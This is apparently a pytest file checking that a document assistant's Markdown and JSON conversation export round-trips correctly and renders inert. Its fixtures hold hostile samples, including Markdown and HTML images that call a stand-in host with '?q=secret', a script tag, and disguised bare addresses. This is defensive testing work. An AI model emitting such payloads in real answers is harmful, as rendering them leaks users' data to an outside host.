"""Conversation export: Markdown with file and page, JSON that loads back, inert markup.

Answers come from a real assistant on the fakes (hash embedder, scripted model),
so their sources, citations and flagged sentences are the product's own.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from gpt4all_rag.answer import Answer, Source
from gpt4all_rag.assistant.single import DocumentAssistant
from gpt4all_rag.documents.export import (
    EXPORT_FORMAT,
    conversation_from_json,
    conversation_json,
    conversation_markdown,
    escape_text,
    export_conversation,
)
from gpt4all_rag.llm.scripted import ScriptedLLM
from gpt4all_rag.testing import fake_settings
from tests.helpers.app_page import app_page
from tests.helpers.data import DOCS
from tests.helpers.markdown_renderers import live_parts

WHEN = "2026-01-02T03:04:05+00:00"
REACTOR = "What is the core temperature of the Zorblax reactor?"
BEES = "How long can queen bees live?"
HOSTILE = "See ![x](https://evil.example/?q=secret) and <img src=https://evil.example/a.png> [1]."


@pytest.fixture
def answers(tmp_path: Path) -> list[Answer]:
    docs = tmp_path / "docs"
    docs.mkdir()
    for name in ("manual.pdf", "notes.md"):
        (docs / name).write_bytes((DOCS / name).read_bytes())
    llm = ScriptedLLM(["The core runs at 451 kelvin [1].", "Up to five years [2]."])
    assistant = DocumentAssistant.from_settings(
        fake_settings(docs, tmp_path / "index"), llm=llm, embedder=None
    )
    assistant.ingest()
    return [assistant.ask(REACTOR), assistant.ask(BEES)]


def test_json_loads_back_into_the_same_answers(answers: list[Answer]) -> None:
    text = conversation_json(answers, model="scripted", exported_at=WHEN)
    loaded = conversation_from_json(text)

    def essentials(a: Answer) -> tuple[object, ...]:
        sources = [(s.number, s.file, s.page, s.text) for s in a.sources]
        sentences = [(s.text, s.cited, round(s.support, 4), s.supported) for s in a.sentences]
        return (a.question, a.text, a.cited, a.found, sources, sentences)

    assert [essentials(a) for a in loaded] == [essentials(a) for a in answers]
    assert conversation_json(loaded, model="scripted", exported_at=WHEN) == text
    document = json.loads(text)
    assert document["format"] == EXPORT_FORMAT and document["model"] == "scripted"
    assert [t["question"] for t in document["turns"]] == [REACTOR, BEES]
    first = document["turns"][0]
    assert first["answer"] == answers[0].text
    assert [(s["file"], s["page"], s["cited"]) for s in first["sources"]][:2] == [
        ("manual.pdf", 2, True),
        ("manual.pdf", 1, False),
    ]


def test_json_that_is_not_an_export_is_refused() -> None:
    with pytest.raises(ValueError, match=EXPORT_FORMAT):
        conversation_from_json(json.dumps({"turns": []}))


def test_markdown_has_each_question_answer_and_source_with_file_and_page(
    answers: list[Answer],
) -> None:
    text = conversation_markdown(answers, model="scripted", exported_at=WHEN)
    lines = text.splitlines()

    assert lines[:3] == [
        "# Conversation with your documents",
        "",
        f"Exported {WHEN} · model scripted",
    ]
    assert f"## 1. {REACTOR}" in lines and f"## 2. {BEES}" in lines
    assert "The core runs at 451 kelvin [1]." in lines
    assert "- [1] manual.pdf, page 2" in lines  # cited: no note
    assert "- [2] manual.pdf, page 1 (retrieved, not cited)" in lines
    bees = lines[lines.index(f"## 2. {BEES}") :]
    assert "- [1] notes.md" in bees  # unpaged: the file alone
    assert "  > \\# Notes on Keeping Bees Beekeeping is" in "\n".join(bees)  # no heading
    passage = "  > Operating Conditions The Zorblax reactor operates at a core temperature of 451"
    assert any(line.startswith(passage) for line in lines)


def test_markdown_cannot_link_embed_or_load_anything() -> None:
    hostile = Answer(question="<script>x</script> [a](https://evil.example)", text=HOSTILE)
    rendered = MarkdownIt("commonmark").render(conversation_markdown([hostile]))
    assert "<img" not in rendered and "href" not in rendered and "<script" not in rendered
    assert "evil.example" in rendered  # shown as text, for the reader to see
    assert escape_text("451 kelvin [1], [p. 3]; [1](x) ![2](y) [3]: z") == (
        "451 kelvin [1], [p. 3]; \\[1\\](x) !\\[2\\](y) \\[3\\]: z"
    )


# Addresses GFM viewers link by themselves (issue 21 item 12), also after `_` and in entities.
ADDRESSES = (
    "Mail a@evil.example, see https://evil.example/?q=s or www.evil.example/?q=s, "
    "_http://evil.example/?q=s x_www.evil.example w&#119;w&#46;evil.example [1]."
)


def test_markdown_export_leaves_no_bare_address_live() -> None:
    source = Source(
        number=1, file="www.evil.example.pdf", page=2, text=ADDRESSES, score=1.0, similarity=1.0
    )
    hostile = Answer(
        question=f"Who is a@evil.example? {HOSTILE}",
        text=f"{ADDRESSES}\n{HOSTILE}",
        sources=(source,),
        cited=(1,),
    )

    exported = conversation_markdown([hostile], model="m@evil.example", exported_at=WHEN)

    assert live_parts(exported) == []
    assert escape_text(ADDRESSES) == (
        "Mail `a@evil.example`, see `https://evil.example/?q=s` or `www.evil.example/?q=s`, "
        "_`http://evil.example/?q=s` x_`www.evil.example` w\\&#119;w\\&#46;evil.example [1]."
    )


def test_a_piece_the_light_escaping_leaves_doubtful_is_escaped_fully() -> None:
    # "www" in emphasis, then ".evil.example": no viewer links it, but the check refuses
    # text that reads as an address across markup, so the piece is escaped whole.
    assert escape_text("*www*.evil.example [1]") == "\\*www\\*\\.evil\\.example \\[1\\]"


def test_export_writes_by_suffix_and_refuses_others(answers: list[Answer], tmp_path: Path) -> None:
    md = export_conversation(answers, tmp_path / "chat.md", model="scripted")
    data = export_conversation(answers, tmp_path / "chat.JSON")
    assert md.read_text(encoding="utf-8").startswith("# Conversation with your documents")
    assert len(conversation_from_json(data.read_text(encoding="utf-8"))) == 2
    with pytest.raises(ValueError, match="md or .json"):
        export_conversation(answers, tmp_path / "chat.txt")
    assert sorted(p.name for p in tmp_path.iterdir() if p.is_file()) == ["chat.JSON", "chat.md"]


def test_the_app_offers_the_conversation_as_markdown_and_json(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "manual.pdf").write_bytes((DOCS / "manual.pdf").read_bytes())
    monkeypatch.setenv("GPT4ALL_RAG_DOCUMENTS_DIR", str(docs))
    monkeypatch.setenv("GPT4ALL_RAG_INDEX_DIR", str(tmp_path / "index"))
    monkeypatch.setenv("GPT4ALL_RAG_EMBEDDING_BACKEND", "hash")
    monkeypatch.setenv("GPT4ALL_RAG_LLM_BACKEND", "scripted")
    monkeypatch.setenv("GPT4ALL_RAG_SCRIPTED_REPLIES", json.dumps(["It runs at 451 kelvin [1]."]))
    monkeypatch.delenv("GPT4ALL_RAG_MODEL_PATH", raising=False)
    page = app_page(60).run()
    exports = ["Export conversation (Markdown)", "Export conversation (JSON)"]

    def labels() -> list[str]:
        shown = [getattr(b, "label", "") for b in page.main.get("download_button")]
        return [label for label in shown if label in exports]

    assert labels() == []  # nothing to export before the first answer
    page.chat_input(key="question").set_value(REACTOR).run()
    assert not page.exception, page.exception
    assert labels() == exports
